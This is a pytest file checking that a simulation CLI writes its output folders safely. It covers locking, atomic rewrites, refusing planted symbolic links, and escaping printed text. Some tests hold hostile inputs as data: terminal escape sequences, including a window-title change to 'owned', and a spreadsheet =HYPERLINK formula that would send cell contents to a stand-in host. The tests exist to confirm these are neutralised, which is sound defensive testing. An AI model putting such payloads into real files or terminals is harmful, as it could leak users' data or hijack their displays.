"""Output folders under attack (issue 24): two writers at once, a rewrite that fails half way,
symbolic links planted where files go, a folder of another kind of output, a file of another
run slipped in. A run folder is never mixed, never lost, and nothing is written through a
link; every refusal is one `error:` line, exit code 2."""

from __future__ import annotations

import json
import os
import resource
import shutil
from pathlib import Path

import pytest
from hostile_helpers import run_cli
from hypothesis import given, settings
from hypothesis import strategies as st

from sim.cli.common import UNSHOWN, shown
from sim.safe_io import FORMULA_START, csv_read, csv_text
from sim.safe_write import FolderLock, StagedFiles


def refused(code: int, err: str, words: str) -> None:
    """Exit 2, no traceback, the error line last with the expected words (the 12-hour
    scenario's warnings about its history come before it when the run got that far)."""
    assert code == 2, err
    assert "Traceback" not in err
    lines = err.strip().splitlines()
    assert all(ln.startswith(("error: ", "warning: ")) for ln in lines), err
    assert lines[-1].startswith("error: ") and words in lines[-1], err


def view_shot(out: Path, scenario: Path, png: Path, capsys) -> tuple[int, str, str]:
    """`run.py view OUT --scenario SCENARIO --screenshot PNG` in this process."""
    argv = ["view", str(out), "--scenario", str(scenario), "--screenshot", str(png)]
    return run_cli(argv, capsys)


def files_of(folder: Path) -> dict[str, bytes]:
    """Every file under `folder` (relative name -> bytes), links and the lock left out."""
    return {
        str(p.relative_to(folder)): p.read_bytes()
        for p in sorted(folder.rglob("*"))
        if p.is_file() and not p.is_symlink() and p.name != ".lock"
    }


@pytest.fixture
def victim(tmp_path) -> Path:
    """A file elsewhere that a planted link points at: it must never change."""
    path = tmp_path / "victim.txt"
    path.write_text("precious", encoding="utf-8")
    return path


# ---------------------------------------------------------------------------- two writers
def test_a_second_writer_is_refused_while_a_run_holds_the_folder(
    short_scenario, tmp_path, capsys, monkeypatch
):
    """Two replays into one --out at once left a folder of mixed files (summary of seed 1,
    timeseries of seed 0), both exit 0. The first holds the folder from its check to its last
    file: the second, started while the first simulates, is refused and writes nothing."""
    import sim.runs.plan_report as plan_report

    out = tmp_path / "o"
    seen = {}
    real = plan_report.plan_report

    def second_writer(model):  # called after the first run's simulation, before its writes
        capsys.readouterr()  # the first run's output so far
        seen["code"], _, seen["err"] = run_cli(
            [str(short_scenario), "--headless", "--seed", "1", "--out", str(out)], capsys
        )
        return real(model)

    monkeypatch.setattr(plan_report, "plan_report", second_writer)
    code, _, err = run_cli([str(short_scenario), "--headless", "--out", str(out)], capsys)
    assert code == 0, err
    refused(seen["code"], seen["err"], "is writing in this folder")
    summary = json.loads((out / "summary.json").read_text(encoding="utf-8"))
    assert summary["seed"] == 0
    code, _, err = view_shot(out, short_scenario, tmp_path / "v.png", capsys)
    assert code == 0, err  # one run's files, as summary.json lists them


def test_a_folder_locked_by_a_sweep_or_branch_is_refused(short_scenario, tmp_path, capsys):
    out = tmp_path / "o"
    out.mkdir()
    lock = FolderLock(out)
    assert lock.acquire()
    try:
        code, stdout, err = run_cli([str(short_scenario), "--headless", "--out", str(out)], capsys)
    finally:
        lock.release()
    refused(code, err, f"(process {os.getpid()}) is writing in this folder")
    assert stdout == "" and files_of(out) == {}


# ---------------------------------------------------------------------------- failed rewrites
def test_a_rewrite_that_fails_keeps_the_previous_run_and_names_the_file(
    short_scenario, short_run, tmp_path, capsys
):
    """`ulimit -f 4` (a full disk): the old replay removed the previous run's files before
    writing, then failed with `error: : File too large`. The previous run stays whole, the
    error names the file, and no temporary file is left."""
    out = tmp_path / "o"
    shutil.copytree(short_run, out)
    before = files_of(out)
    soft, hard = resource.getrlimit(resource.RLIMIT_FSIZE)
    resource.setrlimit(resource.RLIMIT_FSIZE, (4 * 1024, hard))  # frames: 6 kB
    try:
        code, _, err = run_cli(
            [str(short_scenario), "--headless", "--seed", "1", "--out", str(out), "--replace"],
            capsys,
        )
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, (soft, hard))
    refused(code, err, "File too large")
    assert f"error: {out}" in err and "error: :" not in err
    assert files_of(out) == before
    assert sorted(p.name for p in out.iterdir()) == sorted([*before, ".lock"])


def test_an_interrupted_write_keeps_the_previous_run(
    short_scenario, short_run, tmp_path, capsys, monkeypatch
):
    """A kill or Ctrl-C during the seconds a large run takes to write: the files written so
    far are aside, the previous run is still the folder's."""
    import sim.runs.report as report

    out = tmp_path / "o"
    shutil.copytree(short_run, out)
    before = files_of(out)

    def interrupted(record):
        raise KeyboardInterrupt

    monkeypatch.setattr(report, "frames_bytes", interrupted)
    code, _, err = run_cli(
        [str(short_scenario), "--headless", "--seed", "1", "--out", str(out), "--replace"], capsys
    )
    assert code == 130
    assert files_of(out) == before


def test_a_folder_mixing_two_runs_is_refused_by_view(short_scenario, short_run, tmp_path, capsys):
    out = tmp_path / "o"
    assert (
        run_cli([str(short_scenario), "--headless", "--seed", "1", "--out", str(out)], capsys)[0]
        == 0
    )
    shutil.copy(short_run / "frames.json.gz", out / "frames.json.gz")  # seed 0's frames
    code, _, err = view_shot(out, short_scenario, tmp_path / "v.png", capsys)
    refused(code, err, "holds the files of more than one run (frames.json.gz")


# ---------------------------------------------------------------------------- planted links
@pytest.mark.parametrize("name", [".lock", "summary.json", "frames.json.gz", "events.csv"])
def test_a_replay_never_writes_through_a_planted_link(
    short_scenario, tmp_path, victim, name, capsys
):
    out = tmp_path / "o"
    out.mkdir()
    (out / name).symlink_to(victim)
    code, stdout, err = run_cli([str(short_scenario), "--headless", "--out", str(out)], capsys)
    refused(code, err, "symbolic link")
    assert stdout == "" and victim.read_text() == "precious"


def test_a_guessable_temporary_name_is_no_way_in(short_scenario, tmp_path, victim, capsys):
    """The replay wrote summary.json through `.summary.json.<pid>.tmp`, a name anyone could
    plant a link at; now every temporary name is new and unguessable."""
    out = tmp_path / "o"
    out.mkdir()
    for name in ("summary.json", "frames.json.gz", "events.csv"):
        (out / f".{name}.{os.getpid()}.tmp").symlink_to(victim)
    code, _, err = run_cli([str(short_scenario), "--headless", "--out", str(out)], capsys)
    assert code == 0, err
    assert victim.read_text() == "precious"
    assert json.loads((out / "summary.json").read_text())["seed"] == 0


@pytest.fixture
def branch_file(short_scenario, tmp_path) -> Path:
    path = tmp_path / "b.yaml"
    path.write_text(
        f"title: What if the bridge held?\nscenario: {json.dumps(str(short_scenario))}\n"
        "hour: 3\nchanges:\n  - save_bridge: kupiansk_road_bridge\n",
        encoding="utf-8",
    )
    return path


@pytest.mark.parametrize("planted", ["whatif.json", "base", "branch/events.csv"])
def test_a_branch_never_writes_through_a_planted_link(
    branch_file, tmp_path, victim, planted, capsys
):
    """`branch --replace` wrote whatif.json through a link planted at its name."""
    out = tmp_path / "o"
    assert run_cli(["branch", str(branch_file), "--headless", "--out", str(out)], capsys)[0] == 0
    target = victim if planted != "base" else victim.parent
    shutil.rmtree(out / planted) if (out / planted).is_dir() else (out / planted).unlink()
    (out / planted).symlink_to(target)
    before = sorted(p.name for p in victim.parent.iterdir())
    code, _, err = run_cli(
        ["branch", str(branch_file), "--headless", "--out", str(out), "--replace"], capsys
    )
    refused(code, err, "symbolic link")
    assert victim.read_text() == "precious"
    assert sorted(p.name for p in victim.parent.iterdir()) == before


def test_a_branch_rewrite_keeps_the_previous_whatif_whole(
    branch_file, tmp_path, capsys, monkeypatch
):
    out = tmp_path / "o"
    assert run_cli(["branch", str(branch_file), "--headless", "--out", str(out)], capsys)[0] == 0
    before = files_of(out)
    real = StagedFiles.write

    def full_disk(self, name, data):  # the disk fills up at the branch's frames
        if name == "branch/frames.json.gz":
            raise OSError(28, "No space left on device")
        return real(self, name, data)

    monkeypatch.setattr(StagedFiles, "write", full_disk)
    code, _, err = run_cli(["branch", str(branch_file), "--headless", "--out", str(out)], capsys)
    refused(code, err, "No space left on device")
    assert files_of(out) == before


def test_a_replay_without_out_keeps_another_versions_run_and_writes_beside_it(
    short_scenario, short_run, tmp_path, capsys, monkeypatch
):
    """The README's command (no --out) after the scenario file changed: the run of the old
    version in runs/<id>_seed0 is kept untouched and the new run goes to runs/<id>_seed0-2,
    which the next same run takes again."""
    monkeypatch.chdir(tmp_path)
    default = Path("runs") / "izium_2022_09_seed0"
    shutil.copytree(short_run, default)
    before = files_of(default)
    edited = tmp_path / "edited.yaml"
    text = short_scenario.read_text(encoding="utf-8")
    edited.write_text(text.replace('title: "', 'title: "Edited ', 1), encoding="utf-8")
    code, _, err = run_cli([str(edited), "--headless"], capsys)
    assert code == 0, err
    assert files_of(default) == before
    beside = Path("runs") / "izium_2022_09_seed0-2"
    assert f"kept, this run goes to {beside}" in err
    assert (beside / "summary.json").is_file()
    code, _, err = run_cli([str(edited), "--headless"], capsys)
    assert code == 0, err
    assert not (Path("runs") / "izium_2022_09_seed0-3").exists()


# ---------------------------------------------------------------------------- one kind a folder
def test_a_different_file_with_the_same_id_is_another_run(
    short_scenario, short_run, tmp_path, capsys
):
    """A run is known by its scenario file's content, not its id: an edited copy's run does
    not silently replace the run of the original, and `view` with the edited file warns."""
    out = tmp_path / "o"
    shutil.copytree(short_run, out)
    edited = tmp_path / "edited.yaml"
    text = short_scenario.read_text(encoding="utf-8")
    edited.write_text(text.replace('title: "', 'title: "Edited ', 1), encoding="utf-8")
    code, _, err = run_cli([str(edited), "--headless", "--out", str(out)], capsys)
    refused(code, err, "from another version of the scenario file")
    code, _, err = view_shot(out, edited, tmp_path / "v.png", capsys)
    assert code == 0, err
    assert err.startswith("warning: ") and "another version of" in err
    code, _, err = view_shot(out, short_scenario, tmp_path / "w.png", capsys)
    assert code == 0 and "warning" not in err


def test_a_replay_into_a_sweep_folder_and_a_branch_into_a_run_folder_are_refused(
    short_scenario, short_run, branch_file, tmp_path, capsys
):
    sweep = tmp_path / "sweep"
    sweep.mkdir()
    (sweep / "journal.jsonl").write_text("", encoding="utf-8")
    code, _, err = run_cli([str(short_scenario), "--headless", "--out", str(sweep)], capsys)
    refused(code, err, "holds a sweep")
    code, _, err = run_cli(
        ["branch", str(branch_file), "--headless", "--out", str(short_run)], capsys
    )
    refused(code, err, "holds a replay's run")
    assert sorted(p.name for p in sweep.iterdir()) == ["journal.jsonl"]


# ---------------------------------------------------------------------------- text as text
def test_a_title_with_terminal_escapes_is_shown_not_obeyed(branch_file, tmp_path, capsys):
    """An ANSI escape in a branch title was printed raw: the terminal obeyed it (a colour, a
    window title, a cursor move). Everything a command prints is escaped."""
    text = branch_file.read_text(encoding="utf-8")
    branch_file.write_text(
        text.replace(
            "title: What if the bridge held?", 'title: "Held?\\e[2J\\e]0;owned\\a\\u202e"'
        ),
        encoding="utf-8",
    )
    code, stdout, err = run_cli(
        ["branch", str(branch_file), "--headless", "--out", str(tmp_path / "o")], capsys
    )
    assert code == 0, err
    assert "Held?\\x1b[2J\\x1b]0;owned\\x07\\u202e" in stdout
    assert not UNSHOWN.search(stdout + err)


def test_a_caption_that_is_a_formula_is_text_in_the_csv(short_scenario, tmp_path, capsys):
    """A caption `=HYPERLINK(...)` landed in events.csv as a formula a spreadsheet runs."""
    import csv

    formula = '=HYPERLINK("http://example.invalid/?"&A1,"Click for the sources")'
    text = short_scenario.read_text(encoding="utf-8")
    start = text.index('    text: "5 Sep 2022.')
    end = text.index("\n", start)
    hostile = tmp_path / "hostile.yaml"
    hostile.write_text(text[:start] + f"    text: {json.dumps(formula)}" + text[end:], "utf-8")
    out = tmp_path / "o"
    code, _, err = run_cli([str(hostile), "--headless", "--compare", "--out", str(out)], capsys)
    assert code == 0, err
    with (out / "events.csv").open(encoding="utf-8", newline="") as f:
        cells = [c for row in csv.reader(f) for c in row]
    assert "'" + formula in cells
    assert not any(c.startswith(("=", "+", "@")) for c in cells)


@settings(max_examples=200, deadline=None, derandomize=True)
@given(st.text())
def test_shown_text_holds_nothing_a_terminal_obeys(text):
    out = shown(text)
    assert not UNSHOWN.search(out)
    if not UNSHOWN.search(text):
        assert out == text  # plain text (any script, any emoji) is left as it is


@settings(max_examples=200, deadline=None, derandomize=True)
@given(st.text())
def test_a_csv_cell_never_starts_a_formula_and_reads_back(text):
    cell = csv_text(text)
    assert not cell.startswith(FORMULA_START)
    assert csv_read(cell) == text
